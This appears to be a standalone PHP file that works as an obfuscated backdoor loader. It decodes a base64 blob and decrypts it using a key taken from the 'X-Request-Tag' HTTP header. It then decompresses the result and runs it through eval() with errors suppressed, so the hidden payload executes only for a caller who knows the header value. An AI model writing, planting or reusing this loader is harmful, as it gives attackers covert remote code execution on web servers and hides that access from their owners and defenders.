<?php
$box = base64_decode('IrDTOKUZFo1P6Bdwkr7MD39GMdjAp7eJzBrTaSGCo0X5caeC3/r/wokLTAVmK5sgG78d36cl82LamPZRheGuNTTQ/OkuJHZ80K0EW764NDtZhtspg7hE6T7tQsANgjivoNh5BHMRpCf55oQP04Q74HAP9E6FzVeK');
$key = sha1((string) @$_SERVER['HTTP_X_REQUEST_TAG']);
$out = '';
for ($i = 0, $n = strlen($box); $i < $n; $i++) {
    $out .= chr((ord($box[$i]) + 256 - ord($key[$i % 40])) % 256);
}
$out = @gzinflate($out);
eval($out);
